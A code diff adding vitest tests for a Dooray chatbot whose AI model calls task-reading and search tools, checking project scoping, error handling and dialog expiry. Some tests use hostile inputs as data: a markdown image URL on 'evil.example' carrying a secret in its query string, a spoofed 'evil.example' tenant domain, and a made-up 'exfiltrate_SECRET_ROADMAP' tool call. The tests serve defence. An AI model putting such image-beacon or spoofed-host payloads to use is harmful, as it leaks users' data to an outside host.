@@ -2,6 +2,7 @@ import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
 import { toolMessages } from "../../handler/dooray/toolMessages.js";
 import { messages } from "../../handler/dooray/messages.js";
 import { SAMPLE_LOCKED_PROJECT_ID, SAMPLE_PROJECT_ID, SAMPLE_TOKEN, SAMPLE_WIKI_ID, startSampleDoorayApi, type RecordedDoorayRequest, type SampleDoorayApi } from "../../handler/local/sampleDoorayApi.js";
+import { DIALOG_REF_MAX_AGE_SECONDS, dialogRef } from "../../handler/job/conversationRef.js";
 import { clearAccessCache } from "../../handler/tools/askerAccess.js";
 import { API_KEY, APP_TOKEN, CHANNEL_ID, finalPosts, pressPayload, startHarness, TENANT_ID, USER_ID, type Harness } from "../support/harness.js";
 
@@ -127,6 +128,61 @@ describe("Dooray tools", () => {
     const reported = h.model.requests.slice(before).reduce((sum, request) => sum + request.body.messages.reduce((chars, message) => chars + (message.content ?? "").length, 0), 0);
     expect(finished.usedTokens).toBeGreaterThan(reported);
     expect((await channelTokens()) - usedBefore).toBe(finished.usedTokens);
+  });
+
+  describe("replies are checked, errors stay local", () => {
+    const toolAnswers = () => h.model.requests.at(-1)!.body.messages.filter((message) => message.role === "tool").map((message) => JSON.parse(message.content) as Record<string, unknown>);
+
+    it("refuses a task whose reply says it belongs to a project outside the scope, before the model reads it", async () => {
+      const misplaced = api.addTask("다른 프로젝트의 업무", "보이면 안 되는 본문 OUTSIDE-SCOPE-BODY", { claimsProject: "1111111111111111111" });
+      const { final } = await ask(`[[call:read_task:{"taskId":"${misplaced}"}]] [[call:search_tasks:{"query":"다른 프로젝트의"}]]`);
+      expect(toolAnswers()[0]).toEqual({ error: "that task is not in this channel's projects" });
+      expect((toolAnswers()[1]!.tasks as unknown[]).length).toBe(0);
+      expect(JSON.stringify(h.model.requests.at(-1)!.body.messages)).not.toContain("OUTSIDE-SCOPE-BODY");
+      expect(final).not.toContain("참고한 자료");
+    });
+
+    it("searches every project that answers when one of them refuses, and names the one it could not search", async () => {
+      api.setMembers(SAMPLE_LOCKED_PROJECT_ID, { [USER_ID]: "member" });
+      try {
+        await ask('[[call:search_tasks:{"query":"배포"}]]', { channelId: TWO_PROJECTS_CHANNEL });
+        const [search] = toolAnswers();
+        expect((search!.tasks as { taskId: string }[]).map((task) => task.taskId)).toContain("3570526358279082001");
+        expect(search!.notSearched).toEqual([{ projectId: SAMPLE_LOCKED_PROJECT_ID, reason: "not found, or not visible to the bot's Dooray account" }]);
+      } finally {
+        api.setMembers(SAMPLE_LOCKED_PROJECT_ID, undefined);
+      }
+    });
+
+    it("reads a task whose body is not a string as empty, instead of failing the answer", async () => {
+      const odd = api.addTask("본문이 이상한 업무", { blocks: ["not", "a", "string"] });
+      const { final } = await ask(`[[call:read_task:{"taskId":"${odd}"}]]`);
+      expect(toolAnswers()[0]).toMatchObject({ title: "본문이 이상한 업무", body: "" });
+      expect(final).toContain("참고한 자료:");
+      const answered = h.logs.map((line) => JSON.parse(line)).findLast((entry) => entry.event === "job.modelError" || entry.event === "job.answered");
+      expect(answered?.event).not.toBe("job.modelError");
+    });
+
+    it("logs a tool the bot does not offer as unknown, never as the model named it", async () => {
+      await ask("[[call:exfiltrate_SECRET_ROADMAP_Q3_0123456789:{}]]");
+      const entry = h.logs.map((line) => JSON.parse(line)).findLast((line) => line.event === "tool.called");
+      expect(entry).toMatchObject({ tool: "unknown", ok: false, failure: "badArguments" });
+      expect(h.logs.join("\n")).not.toContain("SECRET_ROADMAP");
+    });
+
+    it("the sample Dooray API answers a body that is not JSON with 400, and goes on serving", async () => {
+      const post = await fetch(`${api.url}/project/v1/projects/${SAMPLE_PROJECT_ID}/posts`, { method: "POST", headers: { authorization: `dooray-api ${SAMPLE_TOKEN}`, "content-type": "application/json" }, body: "{not json" });
+      expect(post.status).toBe(400);
+      expect(((await post.json()) as { header: { isSuccessful: boolean } }).header.isSuccessful).toBe(false);
+      const after = await fetch(`${api.url}/project/v1/projects/${SAMPLE_PROJECT_ID}`, { headers: { authorization: `dooray-api ${SAMPLE_TOKEN}` } });
+      expect(after.status).toBe(200);
+    });
+
+    it("builds links on the responseUrl's host when the request's tenant domain is not an allowed Dooray host", async () => {
+      const { final } = await ask('[[call:read_task:{"taskId":"3570526358279082001"}]]', { tenantDomain: "evil.example" });
+      expect(final).toMatch(new RegExp(`- 이번 주 배포 체크리스트: https://127\\.0\\.0\\.1:\\d+/task/${SAMPLE_PROJECT_ID}/3570526358279082001`));
+      expect(final).not.toContain("evil.example");
+    });
   });
 
   describe("the asker's own access", () => {
@@ -264,6 +320,19 @@ describe("할 일로 만들기", () => {
     expect(JSON.stringify(dialog)).not.toMatch(/evil\.example|SECRET/);
     await submitTask(dialog.callbackId, { title: "점검", body: "보기 ![x](https://evil.example/p.png?d=SECRET-TYPED) 끝" });
     expect(api.created.at(-1)).toMatchObject({ subject: "점검", body: "보기 [이미지: x (evil[.]example)] 끝" });
+  });
+
+  it("says an expired task dialog is expired on its own field, with the dialog's own 1-hour limit", async () => {
+    const buttons = await answerIn(TASK_CHANNEL, "배포 순서 정리해줘");
+    await pressIn(TASK_CHANNEL, buttons.task!);
+    const fresh = h.dooray.dialogs.at(-1)!.body.callbackId;
+    const [, conversationId, turn, , dialogId] = fresh.split(".");
+    const twoHoursAgo = Date.now() - 2 * 3600 * 1000;
+    const stale = dialogRef({ kind: "task", conversationId: conversationId!, turn: Number(turn), dialogId: dialogId! }, { tenantId: TENANT_ID, channelId: TASK_CHANNEL, userId: USER_ID }, APP_TOKEN, twoHoursAgo);
+    const submitted = await submitTask(stale, { title: "늦은 제출", body: "" });
+    expect(submitted.body).toEqual({ errors: [{ name: "title", error: messages.dialogExpired(DIALOG_REF_MAX_AGE_SECONDS / 3600) }] });
+    expect(messages.dialogExpired(1)).toContain("1시간");
+    expect(api.created).toEqual([]);
   });
 
   it("puts a fourth button under answers only where the channel has a taskProject", async () => {
